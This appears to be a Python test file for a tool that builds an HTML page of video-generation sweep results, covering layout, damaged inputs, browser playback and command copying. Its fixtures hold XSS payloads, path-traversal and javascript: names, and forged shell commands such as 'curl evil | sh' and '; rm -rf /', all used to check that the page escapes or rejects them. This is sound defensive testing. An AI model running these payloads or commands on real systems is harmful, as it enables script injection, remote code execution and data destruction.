"""The page of a sweep: what it says, that no text in it is taken for markup, that it plays in Chromium."""

from __future__ import annotations

import contextlib
import io
import os
import shutil
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote_to_bytes

import numpy as np
import pytest
from browser import missing_programs, open_browser, set_screen, show_frame, wait_until
from helpers import FRAMES, OTHER_PROMPT, PROMPT, read_json
from PIL import Image

from step_skip.files.writing import write_json
from step_skip.page.page import write_page
from step_skip.page.sheet import FRAME_HEIGHT, GAP, LINE

HOSTILE = (
    "<script>window.injected = 1</script>",
    '"><img src=x onerror="window.injected = 1">',
    "' onmouseover='window.injected = 1' x='",
    "</b></figcaption></table></style><svg onload=window.injected=1>",
    "&lt;b&gt; ${1} $title {count} \\ \0 \u202e %3Cscript%3E",
)
SCREENS = ((1280, 2400), (390, 844))  # all videos at once; some at a time


LORA = {"path": "/a.safetensors", "alpha": 1.0, "sha256": "0" * 64}


def nested(levels: int) -> list:
    """Return lists in lists."""
    return [nested(levels - 1)] if levels else []


class Tags(HTMLParser):
    """What a page consists of."""

    def __init__(self, page: Path):
        super().__init__()
        self.tags, self.attributes, self.links, self.text = Counter(), set(), [], ""
        self.feed(page.read_text(encoding="utf-8"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes |= {name for name, _ in attrs}
        self.links += [
            value for name, value in attrs if name in ("src", "data-src", "data-json", "href") and value
        ]

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture(scope="module")
def made(prior: Path, model_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with three results of the command line; tests only read it."""
    import infer_from_prior

    folder = tmp_path_factory.mktemp("made")
    for name, flags in (
        ("early", ["--prompt", OTHER_PROMPT, "--start_step", "3"]),
        ("late", ["--prompt", OTHER_PROMPT, "--start_step", "6"]),
        ("own", ["--steps", "0", "7"]),
    ):
        argv = ["--prior_dir", prior, "--model_dir", model_dir, "--output", folder / f"{name}.mp4", *flags]
        with contextlib.redirect_stderr(io.StringIO()):
            infer_from_prior.main(list(map(str, argv)))
    return folder


@pytest.fixture
def results(made: Path, tmp_path: Path) -> Path:
    """A copy of that folder, to be changed."""
    return shutil.copytree(made, tmp_path / "results")


@pytest.fixture
def page(run: Callable, results: Path) -> Callable[[], Tags]:
    """Make the page of `results` by the command line, and read it."""

    def page() -> Tags:
        outcome = run("step_skip.page.__main__", results)
        assert outcome.path == results / "index.html"
        assert outcome.err == ""
        return Tags(outcome.path)

    return page


def add_result(folder: Path, name: str, **changes: Any) -> Path:
    """Another result: a copy of one that is there, its JSON changed; a value of `...` removes the entry."""
    report = read_json(folder / "early.json") | changes
    kept = {key: value for key, value in report.items() if value is not ...}
    write_json(folder / f"{name}.json", kept)
    return shutil.copy(folder / "early.mp4", folder / f"{name}.mp4")


def linked_files(folder: Path, page: Tags) -> list[Path]:
    """Where the page's links lead; none has a scheme, a host or an absolute path."""
    for link in page.links:
        assert ":" not in link
        assert not link.startswith("/")
    return [folder / os.fsdecode(unquote_to_bytes(link)) for link in page.links]


def test_what_the_page_says(page, results, prior):
    """The prior first, then each video with its steps, forwards, seconds and settings; every link leads."""
    add_result(results, "strong", cfg_scale=7.5)
    found = page()
    files = linked_files(results, found)
    assert all(file.is_file() for file in files)
    assert files[0] == results / "contact_sheet.png"
    assert files[1].read_bytes() == (prior / "output_full.mp4").read_bytes()
    names = {"early", "strong", "late", "own"}
    assert {file.stem for file in files[1:] if not file.stem.startswith("prior_")} == names
    seconds = sum(read_json(results / "late.json")["seconds"].values())
    for words in (
        read_json(prior / "run_metadata.json")["run_id"],
        f"prior: {PROMPT}",
        f"after step 6late for a new motion5 forwards, {seconds:.1f} sguidance 5",
        "steps 0 73 forwards, ",
        "guidance 7.5",
        "negative prompt Still.",
        "steps of a full run 10",
        "4 videos, 30 forwards.",
        f"1. {OTHER_PROMPT}",
        f"2. {PROMPT}",
    ):
        assert words in found.text
    assert found.text.count("late for a new motion") == 1


def test_the_contact_sheet_shows_first_middle_and_last_frames(page, results, prior):
    import imageio.v3 as iio

    page()
    side, gap, line = FRAME_HEIGHT, GAP, LINE
    row, tile = 2 * line + side + gap, 3 * side + gap
    with Image.open(results / "contact_sheet.png") as sheet:
        assert sheet.size == (gap + 3 * tile, gap + 3 * row)
        for video, (x, y) in (
            (prior / "output_full.mp4", (0, 0)),
            (results / "early.mp4", (0, 1)),
            (results / "late.mp4", (1, 1)),
            (results / "own.mp4", (2, 2)),
        ):
            frames = iio.imread(video)
            for place, frame in enumerate((0, (FRAMES - 1) // 2, FRAMES - 1)):
                left, top = gap + x * tile + place * side, gap + y * row + 2 * line
                shown = sheet.crop((left, top, left + side, top + side))
                expected = Image.fromarray(frames[frame]).resize((side, side), Image.Resampling.LANCZOS)
                apart = np.abs(np.asarray(shown, dtype=float) - np.asarray(expected, dtype=float))
                assert apart.mean() < 8  # JPEG
        gap_in_the_grid = sheet.crop((gap, gap + 2 * row + line, gap + tile, gap + 3 * row))
        assert gap_in_the_grid.getcolors() == [(tile * (row - line), (255, 255, 255))]


def hostile_folder(results: Path) -> Path:
    """Results whose texts and names try to become markup, a scheme or an escape."""
    for number, text in enumerate(HOSTILE):
        add_result(
            results, f"hostile {number}", prompt=text, negative_prompt=text, device_name=text, model=text
        )
        add_result(results, f"of another prior {number}", prior_run_id=text, prior_dir=f"/{text}", dtype=text)
    for name in (
        "javascript:alert(1)",
        "50% \"of\" '#1?' <b>&amp;",
        "..%2f",
        "a\nb",
        os.fsdecode(b"caf\xe9"),
    ):
        shutil.copy(add_result(results, name), results / f"{name} alone.mp4")
    return results


def test_nothing_in_it_is_taken_for_markup(page, results):
    shutil.copy(results / "early.mp4", results / "stray.mp4")
    plain = page()
    hostile_folder(results)
    found = page()
    assert set(found.tags) <= set(plain.tags)
    assert found.tags["script"] == plain.tags["script"] == 1
    assert found.attributes <= plain.attributes
    files = linked_files(results, found)
    assert all(file.is_file() for file in files)
    assert {file.name for file in results.glob("*.mp4")} <= {file.name for file in files}
    for text in HOSTILE[:4]:
        assert found.text.count(text) >= 3


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        (lambda folder: (folder / "late.mp4").unlink(), "late.mp4 is missing from"),
        (lambda folder: cut(folder / "late.mp4"), "late.mp4 is damaged: it is not a complete .mp4"),
        (lambda folder: blank(folder / "late.mp4"), "late.mp4 is damaged: "),
        (lambda folder: add_result(folder, "late", num_frames=13), "9 frames, expected 13"),
        (lambda folder: (folder / "late.json").unlink(), "late.json is missing"),
        (lambda folder: cut(folder / "late.json"), "late.json cannot be read ("),
        (lambda folder: (folder / "late.json").write_bytes(b"\xff"), "late.json cannot be read ("),
        (lambda folder: (folder / "late.json").write_text("[" * 10**5), "late.json cannot be read (maximum"),
        (lambda folder: (folder / "late.json").write_text("[]"), "late.json is not a clip's JSON"),
        (lambda folder: add_result(folder, "late", prompt=...), "it lacks 'prompt'"),
        (lambda folder: add_result(folder, "late", seconds=3), "seconds = 3, expected"),
        (lambda folder: add_result(folder, "late", fps=float("nan")), "fps = nan, expected a number above 0"),
        (lambda folder: add_result(folder, "late", steps_run=[{}]), "steps_run[0] = {}, expected"),
        (lambda folder: add_result(folder, "late", prompt="\ud800"), "expected text that is UTF-8"),
        (lambda folder: add_result(folder, "late", sigmas="0.9 0.5"), "sigmas = '0.9 0.5', expected"),
        (lambda folder: add_result(folder, "late", steps_run=[0] * 10**5), "at most 10000 entries"),
        (lambda folder: add_result(folder, "late", lora=[LORA | {"alpha": 10**400}]), "expected a number"),
        (lambda folder: add_result(folder, "late", deep=nested(300)), "late.json is not a clip's JSON"),
        (lambda folder: add_result(folder, "late", large="x" * 2**20), "late.json is too large"),
        (lambda folder: add_result(folder, "late", start_step=None), "a resume without a start_step"),
        (lambda folder: add_result(folder, "late", prior_dir="/gone"), "/gone is not a folder"),
    ],
)
def test_what_is_missing_or_damaged_is_named_in_its_place(page, results, changes, words):
    changes(results)
    found = page()
    assert words in found.text
    assert found.tags["figure"] >= 4


def cut(path: Path) -> None:
    """Keep the first two thirds of a file."""
    path.write_bytes(path.read_bytes()[: path.stat().st_size * 2 // 3])


def blank(path: Path) -> None:
    """Keep an .mp4's boxes and lose the frames in it."""
    content = path.read_bytes()
    start = content.index(b"mdat") + 4
    size = int.from_bytes(content[start - 8 : start - 4], "big") - 8
    path.write_bytes(content[:start] + bytes(size) + content[start + size :])


def test_odd_numbers_are_no_trouble(page, results):
    """A number that can't be costs its own clip, in one line."""
    add_result(results, "odd", fps=0.5, forwards=10**15)
    for name, value in (("forwards", 10**400), ("start_step", 10**400), ("seconds", {"denoise": "soon"})):
        add_result(results, name, **{name: value})
    text = page().text
    assert f"{10**15} forwards" in text
    for name in ("forwards", "start_step", "seconds"):
        assert f"{name}.json is not a clip's JSON: it has {name}" in text


def test_other_files_are_left_out(page, results):
    (results / "notes.json").write_text('{"a": 1}')
    (results / "readme.txt").write_text("mine")
    assert page().tags["figure"] == 4


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda folder, prior: folder / "gone", "gone is not a folder; name one that infer_from_prior.py"),
        (lambda folder, prior: prior, "is a prior; name the folder of a sweep, or the prior's outputs"),
        (lambda folder, prior: folder, "holds no video of infer_from_prior.py; name the folder of a sweep"),
    ],
)
def test_folders_that_are_refused(run, refused, prior_copy, tmp_path, make, words):
    (tmp_path / "empty").mkdir()
    refused(lambda: run("step_skip.page.__main__", make(tmp_path / "empty", prior_copy)), words)


def test_a_prior_moved_with_its_outputs(run, made, prior, tmp_path):
    """The page made again after a move shows the prior that holds it."""
    moved = shutil.copytree(prior, tmp_path / prior.name)
    outputs = shutil.copytree(made, moved / "outputs" / "sweep")
    for result in outputs.glob("*.json"):
        write_json(result, read_json(result) | {"prior_dir": f"/gone/{prior.name}"})
    files = linked_files(outputs, Tags(run("step_skip.page.__main__", outputs).path))
    assert files[1].read_bytes() == (prior / "output_full.mp4").read_bytes()


def test_a_folder_reached_by_a_link(page, results, prior, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "link").symlink_to(results)
    files = linked_files(results, Tags(write_page(tmp_path / "elsewhere" / "link")))
    assert files[1].read_bytes() == (prior / "output_full.mp4").read_bytes()


# --- in a browser -------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """Headless Chromium; without it these tests are skipped, unless REQUIRE_CHROMIUM is set."""
    if missing := missing_programs():
        reason = f"no {' and no '.join(missing)}: apt-get install chromium chromium-driver (make browser)"
        (pytest.fail if os.environ.get("REQUIRE_CHROMIUM") else pytest.skip)(reason)
    browser = open_browser(tmp_path_factory.mktemp("profile"))
    yield browser
    browser.quit()


@pytest.mark.parametrize("dark", [False, True])
@pytest.mark.parametrize("screen", SCREENS)
def test_every_video_plays(browser, page, results, screen, dark):
    """From disk, at the width of a desk and of a phone, light and dark, with hostile texts and names."""
    hostile_folder(results)
    page()
    width, height = screen
    set_screen(browser, width=width, height=height, dark=dark)
    browser.get((results / "index.html").as_uri())
    for video in browser.find_elements("css selector", "main video"):
        browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", video)
        wait_until(
            browser,
            "const v = arguments[0]; return v.readyState >= 2 && v.videoWidth === 32 && v.currentTime > 0.3",
            video,
            message="a video that doesn't play",
        )
    for script, expected in (
        ("window.injected", None),
        ("[...document.images].every((image) => image.naturalWidth === 96 || !image.complete)", True),
        ("document.scripts.length", 1),
        ("document.documentElement.scrollWidth > innerWidth", False),
        (
            "getComputedStyle(document.body).backgroundColor",
            "rgb(21, 21, 23)" if dark else "rgb(255, 255, 255)",
        ),
    ):
        assert browser.execute_script(f"return {script}") == expected, script
    assert browser.get_log("browser") == []


# Push one video ahead while all play; true if the others catch up with it before all begin again.
PUSH = """
const [push, done] = arguments;
let pushed = false, before = 0;
(function watch() {
  const at = videos.map((video) => video.currentTime);
  const inStep = videos.every(isReady) && Math.max(...at) - Math.min(...at) <= frame;
  if (pushed && inStep && Math.max(...at) < 0.9) return done(true);  // at the end all wait for the last
  if (pushed && time < before) return done(false);
  if (!pushed && inStep && time < 0.2 && videos.every((video) => !video.paused)) {
    videos[2].currentTime = time + push;
    pushed = true;
  }
  before = time;
  requestAnimationFrame(watch);
})();
"""


@pytest.mark.parametrize("push", [0.3, 0.9])
def test_they_play_in_step(browser, page, results, push):
    """One that is ahead waits or goes back; the end is followed by the beginning."""
    page()
    set_screen(browser, width=1280, height=2400)
    browser.get((results / "index.html").as_uri())
    assert any(browser.execute_async_script(PUSH, push) for _ in range(5))  # a busy machine may miss it once


def test_pause_and_the_slider(browser, page, results):
    """All stop, show the same frame, and play on."""
    page()
    browser.get((results / "index.html").as_uri())
    wait_until(browser, "return videos.every((v) => !v.paused)", message="not playing")
    browser.find_element("id", "play").click()
    assert browser.execute_script("return videos.every((v) => v.paused)")
    show_frame(browser, 5)
    wait_until(browser, "return videos.every(isReady)", message="not sought")
    assert set(browser.execute_script("return videos.map((v) => v.currentTime)")) == {5.5 / 8}
    wait_until(browser, "return shown.textContent === '6 / ' + arguments[0]", FRAMES, message="not shown")
    browser.find_element("id", "play").click()
    wait_until(browser, "return time > 0.8 || time < 0.5", message="not playing on")


def test_a_video_that_went_missing_says_so(browser, page, results):
    """The others play on."""
    page()
    (results / "late.mp4").unlink()
    browser.get((results / "index.html").as_uri())
    wait_until(browser, "return document.querySelector('.problem')", message="no word of it")
    note = browser.find_element("class name", "problem")
    assert note.text == "This browser cannot play the video."
    assert "after step 6" in note.find_element("xpath", "..").text
    wait_until(browser, "return time > 0.3", message="the others wait")
    browser.get_log("browser")  # Chromium reports the file it didn't find


def test_own_sigmas_are_told_apart(page, results):
    """Two schedules of as many steps are two columns, named by their sigmas, never "after step -1"."""
    for name, sigmas in (("a", [1.0, 0.5]), ("b", [1.0, 0.25])):
        changes = {"method": "sigmas", "start_step": -1, "steps_run": [0, 1], "sigmas": sigmas}
        add_result(results, name, **changes)
    add_result(results, "older", method="resume", start_step=-1, steps_run=[0, 1], sigmas=[0.9, 0.3])
    text = (page(), (results / "index.html").read_text())[1]
    for words in ("sigmas 1 0.5", "sigmas 1 0.25", "sigmas 0.9 0.3"):
        assert f'<b class="steps">{words}</b>' in text
    assert "after step -1" not in text


# --- while a sweep runs, and of many videos -----------------------------------------------------------------


def test_a_page_copied_elsewhere_is_complete(page, results, tmp_path):
    """Nothing that it shows lies outside the folder."""
    page()
    copy = shutil.copytree(results, tmp_path / "copy")
    files = linked_files(copy, Tags(copy / "index.html"))
    assert all(file.resolve().is_relative_to(copy) and file.is_file() for file in files)


def test_made_again_it_decodes_no_video(page, results, monkeypatch):
    """Neither does it read the prior, unless something is newer than its poster."""
    from step_skip.media import videos
    from step_skip.page import clips as page_clips

    page()
    before = (results / "index.html").read_text()
    read = []
    decoding = videos.decoding
    monkeypatch.setattr(
        videos, "decoding", lambda path, **how: read.append(path.name) or decoding(path, **how)
    )
    monkeypatch.setattr(page_clips, "read_prior", lambda directory: read.append(directory))
    page()
    assert (results / "index.html").read_text() == before
    assert read == []
    add_result(results, "late", start_step=5)
    page()
    assert set(read) == {"late.mp4"}


@pytest.mark.parametrize(
    "lay", [lambda path: path.write_text("no picture"), lambda path: path.symlink_to("/etc")]
)
def test_a_poster_that_is_none_is_made_anew(page, results, lay):
    page()
    poster = results / "page" / "late.jpg"
    poster.unlink()
    lay(poster)
    page()
    with Image.open(poster) as strip:
        assert strip.size == (96, 32)
    assert not poster.is_symlink()


def test_a_link_in_place_of_what_the_page_keeps(run, refused, results, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (results / "page").symlink_to(tmp_path / "elsewhere")
    refused(lambda: run("step_skip.page.__main__", results), "page is a symbolic link")


def test_a_sweeps_page_grows_with_it(infer, prior, tmp_path, monkeypatch):
    """After every video the page shows those that are there, in the order of the prompts; then it is done."""
    from step_skip.page import page as page_module
    from step_skip.page.html import Running

    seen = []
    write = page_module.SweepPage.write

    def spy(self, running: Running | None = None) -> None:
        write(self, running)
        seen.append(Tags(self.folder / "index.html"))

    monkeypatch.setattr(page_module.SweepPage, "write", spy)
    monkeypatch.setattr(page_module, "SHARE_OF_TIME", 1e9)
    prompts = ("The portrait zooms.", "A portrait nods.", PROMPT)
    folder = infer(prior, "--prompt", *prompts, "--start_step", 9, "--output_dir", tmp_path / "sweep").path
    assert [("data-until" in tags.attributes) for tags in seen] == [True, True, True, False]
    assert "2 videos of 3 so far" in seen[1].text
    places = [seen[-1].text.index(f"{prompt}after step 9") for prompt in prompts]
    assert places == sorted(places)
    assert not [link for link in seen[-1].links if link.endswith(".jpg") and not (folder / link).is_file()]


def test_of_many_videos_each_prior_has_a_page(page, results, monkeypatch):
    from step_skip.page import page as page_module

    for name in ("one", "other"):
        add_result(results, name, prior_run_id=name, prior_dir="/gone")
    page()
    monkeypatch.setattr(page_module, "MOST_ON_A_PAGE", 2)
    monkeypatch.setattr(page_module, "MOST_ON_A_SHEET", 2)
    index = page()
    assert index.tags["video"] == 2  # those of the dialog
    assert not (results / "contact_sheet.png").exists()
    pages = [file for file in linked_files(results, index) if file.suffix == ".html"]
    assert len(set(pages)) == 3
    assert "5 videos, " in index.text
    first = Tags(pages[0])
    assert all(file.is_file() for file in linked_files(results / "page", first))
    assert "early.mp4" in " ".join(first.links)


def test_a_bank_is_one_section(page, results):
    """Each video says which prior it followed."""
    for name, run_id in (("one", "still"), ("two", "left")):
        changes = {"prior_run_id": run_id, "prior_dir": f"/{run_id}", "nearest_of": ["still", "left"]}
        add_result(results, name, **changes)
    found = page()
    assert found.tags["section"] == 2
    assert "follows still" in found.text and "follows left" in found.text


def test_commands_to_copy(page, results):
    """The clip's own, and with more steps; nothing but our script's words, whatever the JSON says."""
    from step_skip.page.clips import read_page_clip
    from step_skip.page.html import command_to_copy, with_more_steps

    own = read_page_clip(results / "own.mp4")
    command = command_to_copy(own)
    assert command == own.report.command
    assert with_more_steps(command, own.report) == command.replace("--steps 0 7", "--num_steps 3")
    early = read_page_clip(results / "early.mp4")
    assert "--start_step 1" in with_more_steps(command_to_copy(early), early.report)
    for forged, expected in (
        ("curl evil | sh", None),
        ("python infer_from_prior.py; rm -rf /", None),
        (
            "python infer_from_prior.py --prior_dir x ; rm -rf /",
            "python infer_from_prior.py --prior_dir x ';' rm -rf /",
        ),
        ("python infer_from_prior.py '\x1b[2J'", None),
        ("python infer_from_prior.py --prior_dir x --ray 10.0.0.1:6379", None),
        ("python infer_from_prior.py --like x.json", None),
        ("python infer_from_prior.py --prior_dir x --output mine.mp4 --overwrite", None),
        ("python infer_from_prior.py --prior_dir x --model_dir //host/share", None),
        ("python infer_from_prior.py --prior_dir x --lora 'high=\\\\\\\\host\\\\share.safetensors'", None),
        ("python infer_from_prior.py --prior_dir x '--prompt=--ray //x'", "same"),
        (["python"], None),
    ):
        add_result(results, "forged", command=forged)
        expected = forged if expected == "same" else expected
        assert command_to_copy(read_page_clip(results / "forged.mp4")) == expected


def test_letters_that_no_font_has_are_no_boxes():
    from step_skip.page.sheet import font_for, lacks

    for text in ("plain", "\u732b walks \U0001f600"):
        font, shown = font_for(text)
        assert not lacks(font, shown)


def press(browser: Any, key: str) -> None:
    browser.find_element("tag name", "body").send_keys(key)


def test_enlarge_compare_sort_and_star(browser, page, results):
    """By keys: a clip large, two compared; sorted, starred and filtered, which a reload keeps."""
    page()
    set_screen(browser, width=1280, height=1000)
    browser.get((results / "index.html").as_uri())
    js = browser.execute_script
    press(browser, "2")
    wait_until(browser, "return dialog.open && isReady($('a'))", message="not enlarged")
    assert js("return current.dataset.result") == "early.mp4"
    press(browser, "3")
    wait_until(browser, "return isReady($('b')) && stage.className === 'wipe'", message="not compared")
    assert js("return getComputedStyle($('b')).clipPath") == "inset(0px 0px 0px 50%)"
    press(browser, "d")
    assert js("return getComputedStyle($('b')).mixBlendMode") == "difference"
    press(browser, "s")
    browser.find_element("id", "close").click()
    js("$('sort').value = 'forwards'; $('sort').dispatchEvent(new Event('input'))")
    names = "return [...document.querySelectorAll('#flat figure')].map((each) => each.dataset.result)"
    assert js(names) == ["own.mp4", "late.mp4", "early.mp4"]
    browser.find_element("id", "starred").click()
    browser.refresh()
    assert js(names) == ["early.mp4"]
    js("localStorage.clear()")
    assert browser.get_log("browser") == []


def test_posters_come_first(browser, page, results):
    """A video that isn't near the screen isn't loaded; its poster keeps its place, as large."""
    for number in range(12):
        add_result(results, f"more {number}", prompt=f"more {number}")
    page()
    set_screen(browser, width=390, height=400)
    browser.get((results / "index.html").as_uri())
    wait_until(browser, "return near.has(videos[0]) && isReady(videos[0])", message="not loaded")
    assert not browser.execute_script("return videos.at(-1).hasAttribute('src')")
    sizes = "return [videos[1], videos.at(-1)].map((each) => each.offsetWidth + 'x' + each.offsetHeight)"
    assert len(set(browser.execute_script(sizes))) == 1
